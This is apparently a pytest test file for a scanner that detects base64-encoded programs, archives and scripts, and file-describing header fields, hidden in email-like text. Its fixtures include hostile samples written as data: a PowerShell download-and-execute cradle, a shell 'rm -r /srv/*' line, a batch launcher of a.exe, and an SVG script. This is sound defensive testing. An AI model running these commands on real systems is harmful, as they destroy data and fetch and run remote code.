"""Files that no structure leads to: base64 in words, fields in the midst of a text."""

import base64
import contextlib
import random
import time

import pytest

from rules.reading import sweep
from rules.reading.budget import LimitExceeded
from rules.reading.encodings import Encoding
from rules.reading.sweep import entities_in, runs_in

PROGRAM = b"MZ\x90" + bytes(60) + b"This program cannot be run in DOS mode. " * 3
RUN = base64.encodebytes(PROGRAM)


def octets_of(text):
    return [file.octets for file in runs_in(text)]


@pytest.mark.parametrize(
    "text",
    [
        RUN,
        b"Dear Bob,\nhere it is:\n\n" + RUN + b"\nAnn\n",
        RUN.replace(b"\n", b"\r\n"),
        b"".join(b"> " + line + b"\n" for line in RUN.splitlines()),
        b"".join(line + b" \t\n" for line in RUN.splitlines()),
        b"x" + RUN,
        b"words\n" + base64.encodebytes(b"another picture entirely " * 9).rstrip(b"=\n") + b"\n" + RUN,
        base64.urlsafe_b64encode(PROGRAM),
    ],
    ids=["alone", "in words", "CRLF", "quoted", "blanks", "a letter before", "behind another", "for addresses"],
)
def test_a_program_in_base64_is_found_wherever_it_stands(text):
    (found,) = octets_of(text)
    assert found.startswith(PROGRAM[:60])


@pytest.mark.parametrize("letters", range(5))
def test_so_many_letters_before_a_program_hide_none_as_make_no_octets_of_their_own(letters):
    """Four make three octets, and the program behind them is none to whoever decodes it."""
    text = b"x" * letters + base64.b64encode(PROGRAM)
    assert [octets.startswith(PROGRAM[:60]) for octets in octets_of(text)] == [True] * (letters < 4)


@pytest.mark.parametrize(("zeros", "more", "found"), [(4, b"", 1), (3, b"", 0), (3, b"PE\0\0", 1)])
def test_a_program_is_one_by_its_zeros_or_by_its_second_signature(zeros, more, found):
    octets = b"MZ" + bytes(zeros) + b"\x90" * (62 - zeros) + more + b"\xcc" * 60
    assert len(octets_of(base64.b64encode(octets))) == found


@pytest.mark.parametrize("length", [8_000, 9_000])
def test_a_description_of_any_length_describes_its_file(length):
    fields = b"Content-Type: text/plain; name=a.exe\nX-A: %s\nContent-Transfer-Encoding: base64\n" % (b"a" * length)
    described = list(entities_in(b"words\n" + fields + b"\n" + RUN))
    assert [entity.encodings[0] for entity in described][-1] is Encoding.BASE64
    assert "a.exe" in [name for entity in described for name in entity.names]


def test_its_place_is_told():
    text = b"Dear Bob,\n" + RUN + b"Ann, in words\n"
    (file,) = runs_in(text)
    assert text[file.span.start : file.span.end] == RUN.rstrip(b"\n")


@pytest.mark.parametrize(
    "front",
    [
        b"PK\x03\x04", b"Rar!\x1a\x07\0", b"7z\xbc\xaf\x27\x1c", b"%PDF-1.7", b"\x28\xb5\x2f\xfd", b"\x04\x22\x4d\x18",
        b"LZIP\1", b"\0\x05\x16\x07\0", b"SZDD\x88\xf0\x27\x33A", b"MSWIM\0\0\0", b"Cr24",
    ],
)  # fmt: skip
def test_containers_too(front):
    content = front + bytes(range(200))
    assert octets_of(base64.encodebytes(content)) == [content]


def test_a_run_too_short_and_one_of_just_that_length():
    text = base64.b64encode(b"%PDF-1.7 " + bytes(60))
    assert octets_of(text[:39]) == []
    assert len(octets_of(text[:40])) == 1


@pytest.mark.parametrize(
    "text",
    [
        base64.encodebytes(b"A letter to the city about the park and its trees. " * 5),
        base64.encodebytes(bytes(random.Random(1).randbytes(3_000))),
        b"https://files.city.example/" + b"a1b2c3d4" * 20 + b"\n",
        b"-----BEGIN CERTIFICATE-----\n" + base64.encodebytes(b"0\x82\x03" + bytes(range(200))),
    ],
    ids=["words", "noise", "an address", "a certificate"],
)
def test_what_is_no_sought_file_is_passed_over(text):
    assert octets_of(text) == []


def test_chance_makes_no_program():
    """Two letters alone are MZ once in 65,536 times; a program has zeros near its front."""
    assert octets_of(base64.encodebytes(b"MZ" + bytes(range(1, 200)))) == []


BATCH = b'@echo off\r\nstart "" %temp%\\a.exe\r\n' + b"rem words and more words\r\n" * 3
WRITTEN = {
    "batch": BATCH,
    "a shell": b"#!/bin/sh\nrm -r /srv/*; exit 0; echo\n",
    "UTF-8 with its mark": b"\xef\xbb\xbf" + BATCH,
    "UTF-16 with its mark": ("\ufeff" + BATCH.decode()).encode("utf-16-le"),
    "as PowerShell takes it": "IEX (New-Object Net.WebClient).DownloadString('http://a.example')".encode("utf-16-le"),
    "a page": b"<!DOCTYPE html><html><body>Dear colleague, here is the form.</body></html>",
    "a picture": b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    "a message": b"From: ann@city.example\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nwords",
    "a shortcut": b"[InternetShortcut]\r\nURL=file://files.example/a.exe\r\n",
}


@pytest.mark.parametrize("what", WRITTEN)
def test_what_runs_or_is_shown_although_it_is_written_is_found(what):
    text = b"Dear Bob, decode this:\r\n\r\n" + base64.encodebytes(WRITTEN[what]) + b"\r\nAnn, with words\r\n"
    assert octets_of(text) == [WRITTEN[what]]


def test_what_an_address_of_a_page_holds_is_known_elsewhere():
    assert octets_of(b'<script src="data:text/javascript;base64,' + base64.b64encode(BATCH) + b'">') == []


def test_as_many_runs_that_decode_to_text_and_one_more(monkeypatch):
    monkeypatch.setattr(sweep, "MAX_WRITTEN", 20)
    each = base64.b64encode(b"A letter to the city about trees. ") + b" .\n"
    assert octets_of(each * 20) == []
    with pytest.raises(LimitExceeded, match="more than 20 runs of base64 in one text that decode to text"):
        octets_of(each * 21)


def test_as_many_runs_as_are_decoded_and_one_more():
    each = b"TVqQ".ljust(40, b"x") + b" .\n"
    assert octets_of(each * 5_000) == []
    with pytest.raises(LimitExceeded, match="runs of base64 in one text that begin as files do"):
        octets_of(each * 5_001)


def test_words_of_forty_letters_are_no_such_runs():
    """As the hashes of a list of files are; behind however many of them a file is found."""
    chance = random.Random(1)
    hashes = b"".join(b"%040x,a.txt\n" % chance.getrandbits(160) for _ in range(100_000))
    assert octets_of(hashes) == []
    assert octets_of(hashes + base64.encodebytes(PROGRAM)) == [PROGRAM]


def test_lines_that_all_begin_as_programs_cost_little():
    began = time.process_time()
    with pytest.raises(LimitExceeded):
        octets_of(b"TVqQ".ljust(76, b"x") + b"\n" + (b"TVqQ".ljust(76, b"x") + b"\n") * 100_000)
    assert time.process_time() - began < 8


DESCRIBED = b"Content-Disposition: attachment; filename=a.exe\n\nwords\n"


@pytest.mark.parametrize(
    "fields",
    [
        b"Content-Disposition: attachment; filename=a.exe\n",
        b"Content-Type: text/plain; name=a.exe\n",
        b"CONTENT-TYPE : text/plain; name=a.exe\n",
        b"Content-Disposition\r\n : inline; filename=a.exe\r\n",
        b" content-disposition:inline; filename=a.exe\n",
        b"X-Before: 1\nContent-Type: text/plain\nContent-Disposition: attachment; filename=a.exe\n",
    ],
)
def test_fields_in_the_midst_of_a_text_describe_a_file(fields):
    (entity,) = entities_in(b"Dear Bob,\n\n" + fields + b"\nwords\n")
    assert entity.names == ("a.exe",)


def test_each_group_of_fields_ends_the_one_before():
    text = b"one\n" + DESCRIBED + b"\nContent-Transfer-Encoding: base64\n\nTVo=\n"
    first, second = entities_in(text)
    assert text[first.body.start : first.body.end] == b"words\n\n"
    assert text[second.body.start :] == b"TVo=\n"


@pytest.mark.parametrize(
    "text", [b"", b"words", b"See content-type: x in the manual.\n", b"a\nContent-Type: text/plain\n\nwords"]
)
def test_words_describe_none(text):
    assert list(entities_in(text)) == []


def test_as_many_descriptions_as_are_read_and_one_more():
    assert len(list(entities_in(DESCRIBED * 100))) == 100
    with pytest.raises(LimitExceeded, match="descriptions of files"):
        list(entities_in(DESCRIBED * 101))


def test_a_line_that_is_no_field_to_the_reader_of_headers_is_passed():
    assert list(entities_in(b"words\ncontent-type\x0b:\nmore\n" + DESCRIBED))[-1].names == ("a.exe",)


def test_as_many_groups_as_are_looked_at_and_one_more():
    group = b"Content-Type: text/plain\n\nwords\n"
    assert list(entities_in(group * 2_000)) == []
    with pytest.raises(LimitExceeded, match="groups of content fields"):
        list(entities_in(group * 2_001))


@pytest.mark.parametrize("group", [b"content-type\x0b:\n", b"content-type: a\nxx\n content-disposition\0: q\n"])
def test_groups_without_end_cost_little(group):
    began = time.process_time()
    with contextlib.suppress(LimitExceeded):
        list(entities_in(group * 100_000))
    assert time.process_time() - began < 8
